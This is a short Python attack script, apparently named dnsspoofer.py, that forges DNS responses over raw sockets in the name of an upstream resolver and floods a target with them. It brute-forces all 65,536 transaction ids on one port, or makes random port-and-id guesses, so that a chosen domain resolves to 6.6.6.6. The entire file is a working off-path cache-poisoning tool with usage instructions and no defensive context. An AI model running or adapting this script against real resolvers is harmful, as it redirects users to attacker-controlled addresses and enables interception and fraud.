"""Sends forged answers off the path: one for each id, to one port or to random ones, in the name of the upstream.

usage: dnsspoofer.py UPSTREAM TARGET PORT FIRST_ID NAME_HEX   all 65,536 ids to PORT, FIRST_ID first
       dnsspoofer.py UPSTREAM TARGET any COUNT NAME_HEX       COUNT guesses of port and id
Each says that the name, in wire format, has the address 6.6.6.6. Prints "sent N".
"""
import random
import socket
import struct
import sys

upstream, target, port, number, name = sys.argv[1:6]
number, name = int(number), bytes.fromhex(name)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
chance = random.Random(1)

question = name + struct.pack('>HH', 1, 1)
answer = name + struct.pack('>HHIH', 1, 1, 86400, 4) + bytes([6, 6, 6, 6])
body = struct.pack('>HHHHH', 0x8180, 1, 1, 0, 0) + question + answer
size = 8 + 2 + len(body)
# The kernel fills in the checksum of IP and its id; UDP's may be absent in IPv4.
ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + size, 0, 0, 64, 17, 0,
                 socket.inet_aton(upstream), socket.inet_aton(target))


def guesses():
    if port == 'any':
        for _ in range(number):
            yield chance.randrange(1024, 65536), chance.randrange(65536)
    else:
        for step in range(65536):
            yield int(port), (number + step) % 65536


sent = 0
for to, guess in guesses():
    packet = ip + struct.pack('>HHHHH', 53, to, size, 0, guess) + body
    try:
        raw.sendto(packet, (target, 0))
        sent += 1
    except BlockingIOError:
        pass
print(f'sent {sent}')
